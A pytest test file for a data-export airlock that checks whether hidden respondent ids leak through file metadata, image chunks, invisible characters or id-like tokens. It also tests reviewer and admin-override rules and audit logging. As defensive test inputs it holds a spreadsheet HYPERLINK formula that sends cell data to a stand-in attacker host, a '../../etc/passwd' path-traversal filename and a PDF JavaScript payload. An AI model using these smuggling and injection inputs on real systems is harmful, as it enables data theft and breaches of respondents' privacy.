"""The airlock releases only what the reviewers saw: attacks through the real API, end to end.

Each attack hides raw rows or ids in a channel, goes through submit, the reviewers and the
download, and shows that the hidden content is not in the downloaded bytes (or that the file is
refused). Also: failed checks block, only an admin outside the grant overrides, reviewers who are
members never review, and every upload attempt is audited.
"""

from __future__ import annotations

import hashlib
import io
import json

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from PIL import Image, PngImagePlugin

from sandbox.policy.models import Grant
from sandbox.services import Services

GRANT = "g-2026-001"
SEQNS = list(range(93703, 95703))  # 2,000 real NHANES respondent numbers (public codebook range)


@pytest.fixture
def auth(services: Services) -> dict[str, dict[str, str]]:
    return {u: {"Authorization": f"Bearer {services.tokens.create(u)}"}
            for u in ("alice", "bob", "carol", "dave", "admin", "erin")}


def submit(client, headers, files, grant=GRANT):  # noqa: ANN001, ANN201
    data = {"grant": grant, "title": "Results", "justification": "planning",
            "files": [(io.BytesIO(b), n) for n, b in files]}
    return client.post("/v1/exports", headers=headers, data=data, content_type="multipart/form-data")


def vote(client, headers, rid, decision="approve", comment="looked at it"):  # noqa: ANN001, ANN201
    return client.post(f"/v1/exports/{rid}/reviews", headers=headers, json={"decision": decision, "comment": comment})


def release(client, auth, name: str, data: bytes) -> tuple[dict, bytes]:  # noqa: ANN001
    """Submit, two approvals, download: (the request as the reviewer saw it, downloaded bytes)."""
    r = submit(client, auth["alice"], [(name, data)])
    assert r.status_code == 201, r.json
    rid = r.json["id"]
    seen = client.get(f"/v1/exports/{rid}", headers=auth["carol"]).json
    for reviewer in ("carol", "dave"):
        assert vote(client, auth[reviewer], rid).status_code == 200
    got = client.get(f"/v1/exports/{rid}/files/{name}", headers=auth["alice"])
    assert got.status_code == 200, got.json
    assert got.headers["X-Content-SHA256"] == hashlib.sha256(got.data).hexdigest() == seen["files"][0]["sha256"]
    return seen, got.data


def _ids_json(n: int = 2000) -> bytes:
    return json.dumps([{"seqn": s, "age": 20 + s % 60} for s in SEQNS[:n]]).encode()


# -- one attack per channel ----------------------------------------------------------------------
def test_parquet_schema_metadata_rows_do_not_leave(client, auth) -> None:  # noqa: ANN001
    table = pa.table({"sex": ["female", "male"], "n": [4180, 4016]})
    table = table.replace_schema_metadata({b"rows": _ids_json()})
    sink = io.BytesIO()
    pq.write_table(table, sink)
    seen, got = release(client, auth, "by_sex.parquet", sink.getvalue())
    assert b"93703" not in got and b"seqn" not in got and pq.read_metadata(io.BytesIO(got)).metadata is None
    assert pq.read_table(io.BytesIO(got)).to_pylist() == table.to_pylist()
    f = seen["files"][0]
    assert f["uploaded_size"] > 20 * f["size"]  # the reviewer saw both sizes; the gap is flagged
    assert {c["rule"]: c["outcome"] for c in f["checks"]}["canonical.size"] == "review"


def test_png_text_chunks_do_not_leave(client, auth) -> None:  # noqa: ANN001
    info = PngImagePlugin.PngInfo()
    info.add_text("rows", _ids_json(200).decode())
    info.add_text("zrows", _ids_json(200).decode(), zip=True)
    info.add_itxt("irows", _ids_json(200).decode())
    sink = io.BytesIO()
    Image.new("RGB", (8, 8), (10, 120, 200)).save(sink, format="PNG", pnginfo=info)
    seen, got = release(client, auth, "plot.png", sink.getvalue())
    assert b"9370" not in got and b"seqn" not in got and b"tEXt" not in got and b"zTXt" not in got
    assert Image.open(io.BytesIO(got)).getpixel((3, 3)) == (10, 120, 200)


def test_jpeg_exif_comment_and_trailer_do_not_leave(client, auth) -> None:  # noqa: ANN001
    exif = Image.Exif()
    exif[0x010E] = _ids_json(50).decode()
    sink = io.BytesIO()
    Image.new("RGB", (16, 16), (200, 30, 30)).save(sink, format="JPEG", exif=exif.tobytes(),
                                                    comment=_ids_json(50))
    upload = sink.getvalue() + _ids_json(200)
    _seen, got = release(client, auth, "photo.jpg", upload)
    assert b"9370" not in got and b"Exif" not in got and got.endswith(b"\xff\xd9")


def test_png_trailing_bytes_are_refused(client, auth, services) -> None:  # noqa: ANN001
    sink = io.BytesIO()
    Image.new("RGB", (8, 8)).save(sink, format="PNG")
    r = submit(client, auth["alice"], [("plot.png", sink.getvalue() + _ids_json(200))])
    assert (r.status_code, r.json["error"]["code"]) == (400, "file_refused")
    assert not (services.db.dir / "exports").exists() or not any((services.db.dir / "exports").iterdir())


def test_invisible_characters_do_not_leave(client, auth) -> None:  # noqa: ANN001
    hidden = "".join(chr(0xE0000 + ord(c)) for c in "seqn 93703 age 44")
    text = f"Women outnumber men.{hidden}\u200b\u202e\n".encode()
    seen, got = release(client, auth, "notes.txt", text)
    assert got == b"Women outnumber men.\n"
    assert {c["rule"]: c["outcome"] for c in seen["files"][0]["checks"]}["canonical.invisible"] == "review"


def test_formulas_are_neutralized(client, auth) -> None:  # noqa: ANN001
    upload = b'sex,n,link\nfemale,4180,"=HYPERLINK(""http://evil.example/?""&A2,""open"")"\nmale,4016,@cmd\n'
    seen, got = release(client, auth, "t.csv", upload)
    assert got == b'sex,n,link\nfemale,4180,"\'=HYPERLINK(""http://evil.example/?""&A2,""open"")"\nmale,4016,\'@cmd\n'
    assert {c["rule"]: c["outcome"] for c in seen["files"][0]["checks"]}["canonical.formulas"] == "review"


@pytest.mark.parametrize("cells", [
    "id93703\nid93704\nid93705\nid93706\nid93707",
    "93703_\n93704_\n93705_\n93706_\n93707_",
    "\"case ID-93703, ok\"\n\"case ID-93704\"\n\"ID-93705\"\n\"ID-93706\"\n\"ID-93707\"",
    "00093703\n00093704\n00093705\n00093706\n00093707",
])
def test_id_tokens_fail_and_cannot_be_approved(client, auth, cells: str) -> None:  # noqa: ANN001
    r = submit(client, auth["alice"], [("t.csv", f"ref\n{cells}\n".encode())])
    rid = r.json["id"]
    mine = {c["rule"]: c for c in r.json["files"][0]["checks"]}
    assert mine["identifiers"]["outcome"] == "review" and "reviewers only" in mine["identifiers"]["detail"]
    assert client.get(f"/v1/exports/{rid}", headers=auth["alice"]).json["blocked"] == []  # no oracle
    seen = client.get(f"/v1/exports/{rid}", headers=auth["carol"]).json
    assert {c["rule"]: c for c in seen["files"][0]["checks"]}["identifiers"]["outcome"] == "fail"
    assert seen["blocked"] == ["t.csv"] and seen["can"]["review"] and not seen["can"]["approve"]
    r = vote(client, auth["carol"], rid, "approve", "ok")
    assert (r.status_code, r.json["error"]["code"]) == (409, "check_failed")


def test_id_tokens_in_notebook_json_saved_as_text_fail(client, auth) -> None:  # noqa: ANN001
    nb = json.dumps({"cells": [{"outputs": [{"text": [f"id{s}\n" for s in SEQNS[:30]]}]}]}).encode()
    r = submit(client, auth["alice"], [("notebook.txt", nb)])
    seen = client.get(f"/v1/exports/{r.json['id']}", headers=auth["carol"]).json
    assert {c["rule"]: c for c in seen["files"][0]["checks"]}["identifiers"]["outcome"] == "fail"


# -- failed checks block; only an admin outside the grant overrides --------------------------------
def _grant(services: Services, grant_id: str, members: list[str]) -> None:
    body = services.policies.grant(GRANT).model_dump(mode="json")
    body.update(id=grant_id, members=members)
    services.policies.apply_grant(Grant.model_validate(body), "test")


def test_override_is_admin_only_outside_the_grant_audited_shown_and_counted(client, auth, services) -> None:  # noqa: ANN001, E501
    rid = submit(client, auth["alice"], [("t.csv", b"sex,n\nfemale,3\nmale,4016\n")]).json["id"]
    assert vote(client, auth["carol"], rid).json["error"]["code"] == "check_failed"
    for user, code in (("carol", "not_admin"), ("alice", "not_admin"), ("bob", "not_admin")):
        r = client.post(f"/v1/exports/{rid}/override", headers=auth[user], json={"reason": "fine"})
        assert (r.status_code, r.json["error"]["code"]) == (403, code)
    r = client.post(f"/v1/exports/{rid}/override", headers=auth["admin"], json={"reason": ""})
    assert (r.status_code, r.json["error"]["code"]) == (400, "missing_reason")
    # an admin who is a member of the grant may not override
    _grant(services, "g-admin-member", ["alice", "admin"])
    other = submit(client, auth["alice"], [("t.csv", b"sex,n\nfemale,3\n")], grant="g-admin-member").json["id"]
    r = client.post(f"/v1/exports/{other}/override", headers=auth["admin"], json={"reason": "x"})
    assert (r.status_code, r.json["error"]["code"]) == (403, "admin_is_member")

    r = client.post(f"/v1/exports/{rid}/override", headers=auth["admin"],
                    json={"reason": "the 3 is a published national total"})
    assert r.status_code == 200, r.json
    body = r.json
    assert body["status"] == "submitted" and body["blocked"] == []
    assert body["overrides"][0]["admin"] == "admin" and "published" in body["overrides"][0]["reason"]
    r = client.post(f"/v1/exports/{rid}/override", headers=auth["admin"], json={"reason": "again"})
    assert r.json["error"]["code"] == "nothing_to_override"
    entry = [e for e in services.audit.entries() if e["action"] == "export.override"]
    assert entry and entry[0]["actor"] == "admin" and entry[0]["detail"]["rules"] == {"t.csv": ["sdc.threshold"]}
    page = client.get(f"/review/exports/{rid}", headers=auth["carol"]).get_data(as_text=True)
    assert "Check overrides" in page and "published national total" in page
    # reviewers may now approve (with a reason); the register counts the override
    assert vote(client, auth["carol"], rid).status_code == 200
    assert vote(client, auth["dave"], rid).json["status"] == "approved"
    register = client.get("/public/grants.json").json
    assert next(g for g in register["grants"] if g["id"] == GRANT)["check_overrides"] == 1
    assert next(g for g in register["grants"] if g["id"] == "g-admin-member")["check_overrides"] == 0
    assert "published national total" not in json.dumps(register)
    assert 'class="check-overrides">1<' in client.get("/public/grants").get_data(as_text=True)
    assert services.audit.verify().ok


def test_override_is_pinned_to_the_round(client, auth, services) -> None:  # noqa: ANN001
    rid = submit(client, auth["alice"], [("t.csv", b"sex,n\nfemale,3\n")]).json["id"]
    client.post(f"/v1/exports/{rid}/override", headers=auth["admin"], json={"reason": "ok"})
    vote(client, auth["carol"], rid, "return", "show more")
    vote(client, auth["dave"], rid, "return", "show more")
    client.post(f"/v1/exports/{rid}/files", headers=auth["alice"], content_type="multipart/form-data",
                data={"files": [(io.BytesIO(b"sex,n\nfemale,4\n"), "t.csv")]})
    client.post(f"/v1/exports/{rid}/resubmit", headers=auth["alice"])
    assert vote(client, auth["carol"], rid).json["error"]["code"] == "check_failed"


def test_the_overriding_admin_is_not_a_reviewer_of_the_request(client, auth, services) -> None:  # noqa: ANN001
    from sandbox.policy.models import Roles

    services.policies.apply_roles(Roles(reviewers=["carol", "dave", "admin"], admins=["admin"]), "test")
    rid = submit(client, auth["alice"], [("t.csv", b"sex,n\nfemale,3\n")]).json["id"]
    assert client.get(f"/v1/exports/{rid}", headers=auth["admin"]).json["can"]["override"] is True
    client.post(f"/v1/exports/{rid}/override", headers=auth["admin"], json={"reason": "ok"})
    r = vote(client, auth["admin"], rid)
    assert (r.status_code, r.json["error"]["code"]) == (403, "reviewer_is_overrider")
    assert rid not in [q["id"] for q in client.get("/v1/exports", headers=auth["admin"]).json["queue"]]
    # and the other way round: an admin who reviewed a request cannot override its checks
    other = submit(client, auth["alice"], [("t.csv", b"sex,n\nfemale,4\n")]).json["id"]
    assert vote(client, auth["admin"], other, "return", "no").status_code == 200
    r = client.post(f"/v1/exports/{other}/override", headers=auth["admin"], json={"reason": "ok"})
    assert (r.status_code, r.json["error"]["code"]) == (403, "admin_is_reviewer")


# -- separation of duties ----------------------------------------------------------------------
def test_a_reviewer_who_is_a_member_never_reviews_or_sees_it_queued(client, auth, services) -> None:  # noqa: ANN001
    _grant(services, "g-carol", ["alice", "carol"])
    rid = submit(client, auth["alice"], [("t.csv", b"sex,n\nfemale,4180\n")], grant="g-carol").json["id"]
    r = vote(client, auth["carol"], rid)
    assert (r.status_code, r.json["error"]["code"]) == (403, "reviewer_is_member")
    assert rid not in [q["id"] for q in client.get("/v1/exports", headers=auth["carol"]).json["queue"]]
    assert rid not in [q["id"] for q in client.get("/review/?format=json", headers=auth["carol"]).json["queue"]]
    queue_html = client.get("/review/", headers=auth["carol"]).get_data(as_text=True)
    assert queue_html.split("Recent requests")[0].count(rid) == 0
    assert client.get(f"/v1/exports/{rid}", headers=auth["carol"]).json["can"]["review"] is False
    assert rid in [q["id"] for q in client.get("/v1/exports", headers=auth["dave"]).json["queue"]]


# -- every upload attempt is audited ---------------------------------------------------------------
@pytest.mark.parametrize(("name", "data", "code"), [
    ("data.zip", b"PK\x03\x04" + b"\x00" * 40, "file_refused"),
    ("analysis.ipynb", b'{"cells": [], "nbformat": 4}', "file_refused"),
    ("../../etc/passwd.csv", b"a\n1\n", "file_refused"),
    ("big.csv", b"a\n" + b"1\n" * 3_000_000, "file_refused"),
    ("report.pdf", b"%PDF-1.4\n<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>\n", "file_refused"),
    ("plot.png", b"\x89PNG\r\n\x1a\nnot really", "file_refused"),
])
def test_refused_uploads_are_audited_without_their_bytes(client, auth, services, name, data, code) -> None:  # noqa: ANN001, E501
    r = submit(client, auth["alice"], [(name, data)])
    assert (r.status_code, r.json["error"]["code"]) == (400, code)
    entries = [e for e in services.audit.entries() if e["action"] == "export.upload_refused"]
    assert len(entries) == 1
    e = entries[0]
    assert (e["actor"], e["grant_id"], e["detail"]["grant"]) == ("alice", GRANT, GRANT)
    assert e["detail"]["files"] == [{"name": name, "size": len(data), "sha256": hashlib.sha256(data).hexdigest()}]
    assert e["detail"]["reason"]["code"] == code and e["detail"]["reason"]["message"]
    exports = services.db.dir / "exports"
    assert not exports.exists() or not any(exports.rglob("*"))
    assert services.audit.verify().ok


def test_refusals_for_other_reasons_are_audited_too(client, auth, services) -> None:  # noqa: ANN001
    r = submit(client, auth["erin"], [("t.csv", b"a,n\nx,12\n")])  # not a member
    assert r.json["error"]["code"] == "not_a_member"
    e = [e for e in services.audit.entries() if e["action"] == "export.upload_refused"][0]
    assert e["actor"] == "erin" and e["detail"]["reason"]["code"] == "not_a_member"


def test_accepted_uploads_record_both_digests(client, auth, services) -> None:  # noqa: ANN001
    upload = b"sex;n\r\nfemale;4180\r\n"
    r = submit(client, auth["alice"], [("t.csv", upload)])
    e = [e for e in services.audit.entries() if e["action"] == "export.submitted"][0]
    assert e["detail"]["uploads"] == [{"name": "t.csv", "size": len(upload),
                                       "sha256": hashlib.sha256(upload).hexdigest()}]
    assert e["detail"]["files"]["t.csv"] == r.json["files"][0]["sha256"] == hashlib.sha256(
        b"sex,n\nfemale,4180\n").hexdigest()


# -- one sha256 for what was previewed, approved and downloaded --------------------------------
# what a text file or cell may hold: any character but C0/C1 controls other than tab and newline
# (the file gates refuse control bytes as binary content, by design); invisible format characters included
TEXT = st.characters(codec="utf-8", blacklist_categories=("Cc",)) | st.sampled_from("\t\n")
CELL = st.one_of(st.integers(10, 5000), st.text(TEXT, max_size=10), st.floats(min_value=10, max_value=1e6))
ANY_FLOAT = st.floats(allow_nan=True, allow_infinity=True)  # NaN and ±inf become empty cells


@st.composite
def uploads(draw) -> tuple[str, bytes]:  # noqa: ANN001
    """Valid uploads only: each must be accepted (201), so the property is never skipped."""
    kind = draw(st.sampled_from(["csv", "txt", "png", "parquet"]))
    if kind == "txt":
        return "notes.txt", ("Note " + draw(st.text(TEXT, max_size=200))).encode()
    if kind == "png":
        w, h = draw(st.integers(1, 6)), draw(st.integers(1, 6))
        im = Image.new("RGBA", (w, h))
        im.putdata([(draw(st.integers(0, 255)), draw(st.integers(0, 255)), 0, draw(st.integers(0, 255)))
                    for _ in range(w * h)])  # non-uniform alpha, transparent pixels with colour included
        info = PngImagePlugin.PngInfo()
        info.add_text("k", draw(st.text(st.characters(codec="latin-1"), max_size=30)))
        sink = io.BytesIO()
        im.save(sink, format="PNG", pnginfo=info)
        return "plot.png", sink.getvalue()
    rows = draw(st.lists(st.tuples(st.text(TEXT, max_size=8), CELL, ANY_FLOAT),
                         min_size=1, max_size=6))
    rows = [(f"r{label}", v, x) for label, v, x in rows]  # every row has a label: no table is empty
    if kind == "parquet":
        sink = io.BytesIO()
        pq.write_table(pa.table({"label": [r[0] for r in rows], "v": [str(r[1]) for r in rows],
                                 "x": pa.array([r[2] for r in rows], pa.float64())},
                                metadata={"x": draw(st.text(max_size=20))}), sink)
        return "t.parquet", sink.getvalue()
    import csv

    out = io.StringIO()
    w = csv.writer(out, lineterminator=draw(st.sampled_from(["\n", "\r\n"])))
    w.writerow(["label", "v", "x"])
    w.writerows(rows)
    return "t.csv", out.getvalue().encode()


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture,
                                                                  HealthCheck.too_slow])
@given(upload=uploads())
def test_previewed_approved_and_downloaded_bytes_have_one_sha256(client, auth, services, upload) -> None:  # noqa: ANN001, E501
    name, data = upload
    r = submit(client, auth["alice"], [(name, data)])
    assert r.status_code == 201, r.json  # every generated upload is valid: none is skipped
    rid = r.json["id"]
    preview = client.get(f"/review/exports/{rid}/files/{name}/preview", headers=auth["carol"])
    assert preview.status_code == 200
    shown = hashlib.sha256(preview.data).hexdigest()
    client.post(f"/v1/exports/{rid}/override", headers=auth["admin"], json={"reason": "property test"})
    for reviewer in ("carol", "dave"):
        assert vote(client, auth[reviewer], rid).status_code == 200
    approved = [e for e in services.audit.entries() if e["action"] == "export.approved"
                and e["detail"]["request"] == rid][0]["detail"]["files"][name]
    got = client.get(f"/v1/exports/{rid}/files/{name}", headers=auth["alice"])
    assert got.status_code == 200
    assert shown == approved == hashlib.sha256(got.data).hexdigest() == r.json["files"][0]["sha256"]


def test_refused_file_changes_and_nameless_parts_are_audited(client, auth, services) -> None:  # noqa: ANN001
    rid = submit(client, auth["alice"], [("t.csv", b"sex,n\nfemale,40\n")]).json["id"]
    vote(client, auth["carol"], rid, "return", "add males")
    vote(client, auth["dave"], rid, "return", "add males")
    kept = sorted(p.name for p in (services.db.dir / "exports").rglob("*"))
    r = client.post(f"/v1/exports/{rid}/files", headers=auth["alice"], content_type="multipart/form-data",
                    data={"files": [(io.BytesIO(b"%PDF-1.7\n"), "t.pdf")]})
    assert (r.status_code, r.json["error"]["code"]) == (400, "file_refused")
    r = client.post(f"/v1/exports/{rid}/files", headers=auth["alice"], content_type="multipart/form-data",
                    data={"files": [(io.BytesIO(b"sex,n\nmale,4016\n"), "m.csv")], "remove": ["nope.csv"]})
    assert (r.status_code, r.json["error"]["code"]) == (404, "unknown_file")
    assert sorted(p.name for p in (services.db.dir / "exports").rglob("*")) == kept  # no bytes of either kept
    r = submit(client, auth["alice"], [("", b"a,n\nx,12\n")])
    assert (r.status_code, r.json["error"]["code"]) == (400, "file_refused")
    refused = [e for e in services.audit.entries() if e["action"] == "export.upload_refused"]
    assert [(e["detail"].get("request"), e["detail"]["files"][0]["name"]) for e in refused] == [
        (rid, "t.pdf"), (rid, "m.csv"), (None, "")]
    assert refused[0]["grant_id"] == GRANT


def test_the_requester_cannot_read_unreleased_content_back_from_the_gateway(client, auth) -> None:  # noqa: ANN001
    """From outside the sandbox the requester reaches the gateway too: before approval no view of
    theirs may quote the file (previews, check details, flagged cells with their values) or their own
    unreviewed words (title, justification, withdraw comment)."""
    raw = "".join(f"r{i},{31337 + 17 * i}\n" for i in range(60))
    secret_values = [str(31337 + 17 * i) for i in range(60)]
    r = client.post("/v1/exports", headers=auth["alice"], content_type="multipart/form-data", data={
        "grant": GRANT, "title": "income " + " ".join(secret_values[:30]),
        "justification": "rows: " + " ".join(secret_values[30:]),
        "files": [(io.BytesIO(f"row,income\n{raw}".encode()), "raw.csv"),
                  (io.BytesIO(b"income 31337\n"), "notes.txt")]})
    rid = r.json["id"]
    assert client.post(f"/v1/exports/{rid}/withdraw", headers=auth["alice"],
                       json={"reason": " ".join(secret_values)}).status_code == 200
    for path in (f"/v1/exports/{rid}", f"/review/exports/{rid}?format=json", f"/review/exports/{rid}",
                 "/review/mine?format=json", "/review/mine", "/v1/exports"):
        body = client.get(path, headers=auth["alice"]).get_data(as_text=True)
        assert not any(v in body for v in secret_values), path
    assert not any(v in json.dumps(r.json) for v in secret_values)
    for name in ("raw.csv", "notes.txt"):
        got = client.get(f"/review/exports/{rid}/files/{name}/preview?format=json", headers=auth["alice"])
        assert (got.status_code, got.json["error"]["code"]) == (403, "preview_reviewers_only")
    # reviewers do see everything: the values are in their preview and flagged cells
    page = client.get(f"/review/exports/{rid}", headers=auth["carol"]).get_data(as_text=True)
    assert all(v in page for v in secret_values)
    assert client.get(f"/review/exports/{rid}/files/raw.csv/preview", headers=auth["carol"]).status_code == 200


def test_a_refused_upload_to_an_unknown_grant_keeps_the_text_out_of_the_grant_column(client, auth, services) -> None:  # noqa: ANN001, E501
    r = submit(client, auth["alice"], [("t.csv", b"a,n\nx,12\n")], grant="=HYPERLINK(\"http://evil\")")
    assert r.json["error"]["code"] == "not_a_member"
    e = [e for e in services.audit.entries() if e["action"] == "export.upload_refused"][0]
    assert e["grant_id"] is None and e["detail"]["grant"] == "=HYPERLINK(\"http://evil\")"


def test_a_reviewer_who_is_a_member_sees_requests_on_that_grant_as_a_requester_does(client, auth, services) -> None:  # noqa: ANN001, E501
    """Otherwise an operator who is also a reviewer would have the identifier oracle and the previews."""
    _grant(services, "g-carol", ["alice", "carol"])
    for user in ("carol", "alice"):
        answer = submit(client, auth[user], [("leak.csv", b"person,v\n93703,1\n93704,2\n93705,3\n")],
                        grant="g-carol").json
        rid = answer["id"]
        if user == "carol":  # the answer to her own upload: outcomes, the identifier one hidden
            ident = {c["rule"]: c for c in answer["files"][0]["checks"]}["identifiers"]
            assert ident["outcome"] == "review" and "reviewers only" in ident["detail"], user
        view = client.get(f"/v1/exports/{rid}", headers=auth["carol"]).json
        assert view["files"][0]["checks"] == [] and view["files"][0]["sha256"] is None, user  # sealed
        assert view["blocked"] == []
        r = client.get(f"/review/exports/{rid}/files/leak.csv/preview?format=json", headers=auth["carol"])
        assert r.status_code == 403
        assert "93704" not in client.get(f"/review/exports/{rid}", headers=auth["carol"]).get_data(as_text=True)
        seen = client.get(f"/v1/exports/{rid}", headers=auth["dave"]).json  # dave is outside the grant
        assert {c["rule"]: c for c in seen["files"][0]["checks"]}["identifiers"]["outcome"] == "fail"
